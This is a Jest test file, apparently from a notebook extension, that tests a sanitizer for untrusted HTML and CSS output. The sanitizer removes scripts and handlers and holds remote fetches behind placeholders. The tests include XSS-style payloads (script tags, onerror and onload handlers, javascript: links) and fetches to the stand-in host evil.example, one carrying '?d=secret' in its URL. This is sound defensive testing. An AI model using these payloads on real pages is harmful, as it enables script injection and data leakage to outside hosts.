/**
 * @jest-environment jsdom
 *
 * What an output would fetch from another host, against the vectors the Python side
 * (`tests/test_remote_content.py`) is tested against too; and the HTML gate that holds those
 * fetches back in the notebook: scripts and handlers removed, fetches held with a placeholder
 * that loads exactly that one, stylesheets scoped.
 */

import { readVectors } from './vectors';
import { gateStyleSheet, SheetParser } from '../untrusted/cssGate';
import {
  gateHtml,
  IGatedHtml,
  restore,
  SCOPE_ATTRIBUTE,
  showGated
} from '../untrusted/htmlGate';
import { remoteHost } from '../untrusted/remoteContent';
import { remoteResources } from '../untrusted/remoteResources';
import { resourcePlaceholder } from '../untrusted/render';

interface IVector {
  name: string;
  mime: string;
  input: string;
  remote: { url: string; host: string; kind: string }[];
}

const VECTORS: { cases: IVector[] } = readVectors('remote_content.json');

/** jsdom has no constructed sheets: its own CSS parser (rrweb-cssom) stands in. */
// eslint-disable-next-line @typescript-eslint/no-require-imports
const cssom = require('rrweb-cssom') as {
  parse(css: string): { cssRules: CSSRule[] };
};
const parseSheet: SheetParser = css => {
  try {
    return cssom.parse(css).cssRules;
  } catch {
    return null;
  }
};

// jsdom's own CSS parser knows no `@scope`: its complaint about the scoped sheets is noise.
beforeAll(() => {
  const error = console.error;
  jest.spyOn(console, 'error').mockImplementation((...args: unknown[]) => {
    if (!String(args[0]).includes('Could not parse CSS stylesheet')) {
      error(...args);
    }
  });
});

describe('the shared vectors', () => {
  it('are many, and some fetch nothing', () => {
    expect(VECTORS.cases.length).toBeGreaterThanOrEqual(60);
    expect(
      VECTORS.cases.filter(c => c.remote.length === 0).length
    ).toBeGreaterThanOrEqual(15);
  });

  it.each(VECTORS.cases.map(c => [c.name, c] as const))('%s', (_, vector) => {
    expect(remoteResources(vector.input, vector.mime)).toEqual(vector.remote);
  });
});

describe('remoteHost', () => {
  it('reads addresses as the URL parser does', () => {
    expect(remoteHost(' \x00//EVIL.example:81/x ')).toEqual({
      url: '//EVIL.example:81/x',
      host: 'evil.example:81'
    });
    expect(remoteHost('data:image/png;base64,AA')).toBeNull();
    expect(remoteHost('/files/plot.png')).toBeNull();
    expect(remoteHost('http://')).toBeNull();
  });
});

function gate(html: string): IGatedHtml {
  return gateHtml(html, 't', parseSheet);
}

/** A gated output shown in the page, with the shared placeholders. */
function show(gated: IGatedHtml): { host: HTMLElement; root: HTMLElement } {
  const host = document.createElement('div');
  document.body.appendChild(host);
  const root = showGated(
    host,
    gated,
    (held, live) =>
      resourcePlaceholder({
        noun: held.resource.kind,
        host: held.resource.host,
        url: held.resource.url,
        load: () => restore(live, held)
      }),
    () => undefined
  );
  return { host, root };
}

/** The text of everything in the gated output that could fetch or run. */
function attributesOf(root: Element): string {
  return Array.from(root.querySelectorAll('*'))
    .flatMap(e => Array.from(e.attributes, a => `${a.name}=${a.value}`))
    .join('\n');
}

describe('gateHtml', () => {
  it('removes scripts, handlers and script addresses', () => {
    const gated = gate(
      '<script>window.pwned = 1</script><img src="x.png" onerror="window.pwned = 2">' +
        '<a href=" javascript:alert(1)">a</a><svg onload="alert(1)"><a xlink:href="javascript:x">b</a></svg>' +
        '<iframe srcdoc="<p>hi</p>"></iframe><object data="data:text/html,<script>x</script>"></object>'
    );
    expect(gated.scripts).toBe(1);
    expect(gated.root.querySelector('script')).toBeNull();
    const attributes = attributesOf(gated.root);
    expect(attributes).not.toMatch(/^on/m);
    expect(attributes).not.toMatch(/javascript:/i);
    expect(attributes).not.toContain('data:text/html');
    expect(gated.root.querySelector('iframe')?.getAttribute('sandbox')).toBe(
      ''
    );
    // Local content stays as it was.
    expect(gated.root.querySelector('img')?.getAttribute('src')).toBe('x.png');
  });

  it('holds every remote fetch, and the output keeps none', () => {
    const html = VECTORS.cases
      .filter(c => c.mime === 'text/html')
      .map(c => c.input)
      .join('\n');
    const gated = gate(html);
    const { root } = show(gated);
    expect(remoteResources(root.outerHTML, 'text/html')).toEqual([]);
    expect(gated.held.length).toBeGreaterThan(30);
    // Redirects, <base>, prefetches and script sources are dropped, never offered.
    expect(gated.removed.map(r => r.kind).sort()).toEqual(
      expect.arrayContaining(['base', 'link-prefetch', 'refresh', 'script'])
    );
    expect(root.querySelector('meta, base, script, link')).toBeNull();
  });

  it('shows a placeholder naming the host; a click loads exactly that address', async () => {
    const gated = gate(
      '<p>before</p><img alt="chart" src="//evil.example/a.png?d=secret" srcset="//evil.example/b.png 2x">'
    );
    const { root } = show(gated);
    const buttons = root.querySelectorAll('button');
    expect(Array.from(buttons, b => b.getAttribute('aria-label'))).toEqual([
      'Load image from evil.example',
      'Load image from evil.example'
    ]);
    expect(gated.held.map(h => h.detail)).toEqual([' "chart"', ' "chart"']);
    const image = root.querySelector('img')!;
    expect(image.hasAttribute('src')).toBe(false);
    // No broken image beside its placeholder: hidden until it is loaded.
    expect(image.hidden).toBe(true);
    expect(image.hasAttribute('srcset')).toBe(false);
    // The placeholder stands where the image is.
    expect(image.previousElementSibling?.className).toBe(
      'jp-Chapyter-imagePlaceholder'
    );
    buttons[1].click();
    await new Promise(resolve => setTimeout(resolve, 0));
    expect(image.getAttribute('srcset')).toBe('//evil.example/b.png');
    expect(image.hidden).toBe(false);
    expect(image.hasAttribute('src')).toBe(false);
    expect(root.querySelectorAll('button')).toHaveLength(1);
  });

  it('puts placeholders outside tables and SVG, and loads backgrounds back', async () => {
    const gated = gate(
      '<table><tr><td background="//evil.example/td.png">x</td></tr></table>' +
        '<svg><image href="//evil.example/s.png"/></svg>' +
        '<p style="color: red; background-image: url(//evil.example/bg.png)">p</p>'
    );
    const { root } = show(gated);
    const placeholders = root.querySelectorAll('.jp-Chapyter-imagePlaceholder');
    expect(placeholders).toHaveLength(3);
    expect(placeholders[0].nextElementSibling?.localName).toBe('table');
    expect(placeholders[1].nextElementSibling?.localName).toBe('svg');
    const paragraph = root.querySelector('p')!;
    expect(paragraph.getAttribute('style')).toBe('color: red;');
    (placeholders[2].querySelector('button') as HTMLButtonElement).click();
    await new Promise(resolve => setTimeout(resolve, 0));
    expect(paragraph.style.backgroundImage).toContain('//evil.example/bg.png');
    (placeholders[0].querySelector('button') as HTMLButtonElement).click();
    await new Promise(resolve => setTimeout(resolve, 0));
    expect(root.querySelector('td')?.getAttribute('background')).toBe(
      '//evil.example/td.png'
    );
  });

  it('holds an iframe page that would fetch, as one embedded page', () => {
    const gated = gate(
      '<iframe srcdoc="<img src=//evil.example/1.png><img src=//evil.example/2.png>"></iframe>'
    );
    expect(gated.held).toHaveLength(1);
    expect(gated.held[0].resource).toEqual({
      url: '//evil.example/1.png',
      host: 'evil.example',
      kind: 'image'
    });
    expect(gated.root.querySelector('iframe')?.hasAttribute('srcdoc')).toBe(
      false
    );
  });
});

describe('stylesheets', () => {
  it('are scoped to the output, and their remote fetches held', () => {
    const sheet = gateStyleSheet(
      '@import url(//evil.example/i.css);\n' +
        'body { color: red }\n' +
        '.x { background: url(//evil.example/x.png); color: blue }\n' +
        '@media screen { .y { cursor: url(https://evil.example/c.cur), auto } }\n' +
        '@font-face { font-family: F; src: url(//evil.example/f.woff) }',
      '[s="1"]',
      parseSheet
    );
    expect(sheet.text.startsWith('@scope ([s="1"]) {')).toBe(true);
    expect(sheet.text).toContain('body {color: red;}');
    expect(sheet.text).toContain('color: blue');
    expect(remoteResources(sheet.text, 'text/css')).toEqual([]);
    expect(sheet.held.map(h => [h.resource.kind, h.resource.url])).toEqual([
      ['stylesheet', '//evil.example/i.css'],
      ['image', '//evil.example/x.png'],
      ['image', 'https://evil.example/c.cur'],
      ['font', '//evil.example/f.woff']
    ]);
    // What a click adds back is scoped too (the font is global, as fonts are).
    expect(sheet.held[0].css).toBeUndefined();
    expect(sheet.held[1].css).toMatch(
      /^@scope \(\[s="1"\]\) \{\n\.x \{ background: url\(/
    );
    expect(sheet.held[2].css).toContain('@media screen');
  });

  it('of an output are rewritten in place, never left as written', () => {
    const gated = gate(
      '<style>p { color: red; background: url(//evil.example/p.png) }</style><p>x</p>'
    );
    const style = gated.root.querySelector('style')!;
    expect(style.textContent).toContain(`@scope ([${SCOPE_ATTRIBUTE}="t"])`);
    expect(style.textContent).not.toContain('evil.example');
    expect(gated.held.map(h => h.restore.type)).toEqual(['css']);
  });

  it('that cannot be parsed are dropped', () => {
    const sheet = gateStyleSheet('p { color: red }', '[s]', () => null);
    expect(sheet.text).toBe('');
  });
});
